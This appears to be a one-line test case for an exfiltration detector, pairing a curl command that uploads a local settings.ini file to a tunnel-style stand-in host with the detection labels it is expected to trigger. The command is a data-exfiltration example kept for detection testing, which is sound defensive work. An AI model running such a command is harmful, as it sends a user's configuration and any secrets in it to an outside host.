curl --data-binary @settings.ini https://abc.ngrok.example/ # expect: data-exfiltration/dead-drop-host, url-analyzer/dead-drop
